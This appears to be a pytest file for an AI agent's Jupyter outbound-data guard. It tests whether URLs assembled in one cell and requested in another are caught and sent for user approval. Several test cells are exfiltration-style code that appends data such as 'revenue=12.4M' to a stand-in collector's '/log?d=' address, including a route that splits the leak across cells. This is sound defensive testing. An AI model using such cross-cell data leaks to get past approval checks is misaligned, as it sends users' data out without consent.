"""Addresses held in variables (issue #19's policy route): an address assembled in one cell and
requested in another is judged by the string the kernel holds, and hosts in the user's own
cells count as named."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from orkas_jupyter.engine.messages import user_message
from orkas_jupyter.tools.outbound import addresses_in_arguments, addresses_in_python

from .test_outbound import Counting, kernel_harness, servers  # noqa: F401  (fixtures)

C = "https://c.test/log?d="


@pytest.mark.parametrize(("code", "values", "addresses"), [
    # the namespace holds the address a previous cell built, data included
    ("import requests\nrequests.get(target)", {"target": C + "revenue"}, [C + "revenue"]),
    ("import urllib.request\nurllib.request.urlopen(url=target)", {"target": C + "x"},
     [C + "x"]),
    ("import requests\nrequests.get(base + '/log', params={'d': v})",
     {"base": "https://c.test"}, ["https://c.test/log?{…}"]),
    ("import requests\nrequests.get(f'{base}/log?d={v}')", {"base": "https://c.test"},
     ["https://c.test/log?d={…}"]),
    # the cell's own assignments come first, in order, and += appends a run-time value
    ("import requests\nu = 'https://c.test/log?d='\nu += figures\nrequests.get(u)",
     {"u": "https://elsewhere.test/"}, ["https://c.test/log?d=", "https://c.test/log?d={…}"]),
    ("import requests\nu = base + '?d=' + x\nrequests.get(u)", {"base": "https://c.test/"},
     ["https://c.test/?d={…}"]),
    # values that are not address strings, and names the cell binds in a loop, are unknown
    ("import requests\nrequests.get(target)", {"target": "not a url"}, []),
    ("import requests\nrequests.get(target)", {"target": b"https://c.test/?d=1"}, []),
    ("import requests\nfor target in pages:\n    requests.get(target)",
     {"target": C + "stale"}, []),
    ("import requests\nrequests.get(target)", {}, []),
])
def test_an_address_in_a_variable_is_read_from_the_cell_or_the_namespace(
        code: str, values: dict[str, Any], addresses: list[str]) -> None:
    assert addresses_in_python(code, values) == addresses


def test_a_variable_that_is_not_requested_is_not_an_address() -> None:
    code = "import requests\nprint(target)\nrequests.get('https://example.org/a')"
    assert addresses_in_python(code, {"target": C + "x"}) == ["https://example.org/a"]


async def test_an_address_built_in_one_cell_and_requested_in_another_asks(
        kernel_harness: Any, servers: tuple[Counting, Counting]) -> None:  # noqa: F811
    _, run_code, approvals, kernel, said = kernel_harness
    site, collector = servers
    said.append(user_message(f"summarise {site.url}/q3.html"))
    # the first cell only builds a string: it makes no request and runs without asking
    text, is_error = await run_code(f"figures = 'revenue=12.4M'\n"
                                    f"target = '{collector.url}/log?d=' + figures")
    assert not is_error, text
    assert approvals.asked == []
    text, is_error = await run_code("import urllib.request\n"
                                    "urllib.request.urlopen(target).read()")
    assert is_error and "outbound_data" in text, text
    assert [r.risk for r in approvals.asked] == ["outbound_data"]
    assert collector.paths == [] and len(kernel.ran) == 1
    # the same cell against the host the user named runs without asking
    kernel.ns["target"] = f"{site.url}/q3.html?page=2"
    text, is_error = await run_code("import urllib.request\n"
                                    "urllib.request.urlopen(target).read()")
    assert not is_error, text
    assert site.paths == ["/q3.html?page=2"] and len(approvals.asked) == 1


async def test_hosts_in_cells_the_user_wrote_count_as_named_and_the_agents_do_not(
        kernel_harness: Any, servers: tuple[Counting, Counting]) -> None:  # noqa: F811
    _, run_code, approvals, _, _ = kernel_harness
    site, collector = servers
    nb = Path("analysis.ipynb")
    data = json.loads(nb.read_text())
    data["cells"].append({"cell_type": "code", "id": "mine", "metadata": {}, "outputs": [],
                          "execution_count": None, "source": f"API = '{site.url}'"})
    nb.write_text(json.dumps(data))
    # the user's own cell names the site: a query to it runs without asking
    text, is_error = await run_code("import urllib.request\n"
                                    f"urllib.request.urlopen('{site.url}/q?year=' + '2024')")
    assert not is_error, text
    assert site.paths == ["/q?year=2024"] and approvals.asked == []
    # a cell the agent wrote (it carries `orkas` metadata) names the collector: not the user's
    text, is_error = await run_code(f"COLLECTOR = '{collector.url}'")
    assert not is_error, text
    cells = json.loads(nb.read_text())["cells"]
    assert "orkas" in cells[-1]["metadata"]
    text, is_error = await run_code("import urllib.request\n"
                                    "urllib.request.urlopen(COLLECTOR + '/log?d=' + API)")
    assert is_error and "outbound_data" in text, text
    assert collector.paths == []


def test_addresses_in_tool_arguments_are_found_at_any_depth() -> None:
    arguments = {"query": "see https://a.test/x?d=1 and https://b.test/",
                 "options": {"links": ["https://c.test/p", {"u": "http://d.test:8080/q?x"}]},
                 "n": 3, "flag": True}
    assert addresses_in_arguments(arguments) == [
        "https://a.test/x?d=1", "https://b.test/", "https://c.test/p", "http://d.test:8080/q?x"]
    assert addresses_in_arguments({"text": "no address here", "n": 1}) == []
    assert len(addresses_in_arguments([f"https://h{i}.test/" for i in range(100)])) == 32
